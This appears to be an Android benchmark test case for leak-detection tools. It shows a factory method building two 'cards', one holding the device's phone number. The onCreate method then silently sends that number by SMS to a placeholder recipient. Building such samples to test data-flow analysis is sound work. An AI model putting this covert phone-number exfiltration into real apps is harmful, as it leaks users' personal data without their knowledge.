// about       One factory method makes both cards; the card made with the value is sent.
// leak        PHONE_NUMBER sms
package cn.example.flow;

import android.app.Activity;
import android.content.Context;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class MainActivity extends Activity {
  static class Card {
    String title;
    String text;
  }

  private static Card makeCard(String title, String text) {
    Card card = new Card();
    card.title = title;
    card.text = text;
    return card;
  }

  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    TelephonyManager phone = (TelephonyManager) getSystemService(Context.TELEPHONY_SERVICE);
    Card own = makeCard("own", phone.getLine1Number());
    Card help = makeCard("help", "call the desk");
    // Made in the first call of the factory.
    String text = own.text;
    SmsManager.getDefault().sendTextMessage("+15550100", null, text, null, null);
  }
}
